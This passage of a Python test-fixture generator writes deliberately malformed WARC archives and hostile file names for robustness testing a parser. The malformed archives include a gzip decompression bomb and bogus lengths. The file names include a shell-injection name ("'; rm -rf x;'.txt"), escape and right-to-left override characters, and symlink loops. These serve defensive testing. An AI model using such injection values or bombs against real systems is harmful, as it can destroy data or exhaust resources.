            f"WARC/1.0\r\nWARC-Type: response\r\nWARC-Record-ID: <urn:x:{n}>\r\nWARC-Date: 2024-03-08T10:00:00Z\r\n"
        )
        fields += f"WARC-Target-URI: https://x.invalid/{n}\r\nContent-Type: application/http; msgtype=response\r\n"
        out.append(f"{fields}Content-Length: {len(block)}\r\n\r\n".encode() + block + b"\r\n\r\n")
    return b"".join(out)


_HTML = "Content-Type: text/html"
put("good.warc", warc((_HTML, PAGE.encode())))
put("good.warc.gz", gzip.compress(warc((_HTML, PAGE.encode()))))
put("not_found.warc", warc((_HTML, PAGE.encode())).replace(b"200 OK", b"404 No"))
put("image.warc", warc(("Content-Type: image/png", noise(29, 2000))))
put("broken.warc", warc((_HTML, PAGE.encode() * 50))[:2000])
put(
    "wrong_length.warc",
    warc((_HTML, PAGE.encode()), (_HTML, PAGE.encode())).replace(b"Content-Length: ", b"Content-Length: 9", 1),
)
put("negative_length.warc", warc((_HTML, PAGE.encode())).replace(b"Content-Length: ", b"Content-Length: -", 1))
put("gzip_body.warc", warc((_HTML + "\r\nContent-Encoding: gzip", gzip.compress(PAGE.encode()))))
put("broken_body.warc", warc((_HTML + "\r\nContent-Encoding: gzip", gzip.compress(PAGE.encode())[:50])))
put("false_encoding.warc", warc((_HTML + "\r\nContent-Encoding: br", PAGE.encode())))
put("chunks.warc", warc((_HTML + "\r\nTransfer-Encoding: chunked", b"ffffffffffffffff\r\n" + PAGE.encode())))
put("random.warc", b"WARC/1.0\r\n" + noise(30, 50_000))
put("random_gzip.warc.gz", gzip.compress(b"WARC/1.0\r\n" + noise(31, 50_000)))
repeat("headers.warc", "WARC/1.0\r\n", MEGABYTE)


@nasty("bomb_body.warc")
def _() -> bytes:
    return warc((_HTML + "\r\nContent-Encoding: gzip", gzip.compress(bytes(70 * MEGABYTE), 1)))


def make(folder: Path) -> int:
    """Writes all files, and links and names that content alone can't be; returns how many there are."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, maker in FILES.items():
        content = maker()
        (folder / name).write_bytes(content.encode("utf-8", "surrogatepass") if isinstance(content, str) else content)
    return len(FILES) + _make_odd(folder)


def _make_odd(folder: Path) -> int:
    """Makes what is nasty by its name or its kind; each counts as one input."""
    for name in (
        "new\nline.txt",
        "\x1b[2Jescape.txt",
        "\u202etxt.right",
        "-o.txt",
        " .txt",
        "'; rm -rf x;'.txt",
        "x" * 240,
    ):
        (folder / name).write_text(STORY, encoding="utf-8")
    Path(os.fsdecode(os.fsencode(folder) + b"/caf\xe9.txt")).write_text(STORY, encoding="utf-8")
    (folder / "loop").symlink_to(folder, target_is_directory=True)
    (folder / "self").symlink_to(folder / "self")
    (folder / "nowhere").symlink_to(folder / "gone")
    os.mkfifo(folder / "pipe")
    return 8 + 4


if __name__ == "__main__":
    print(make(Path(sys.argv[1])))
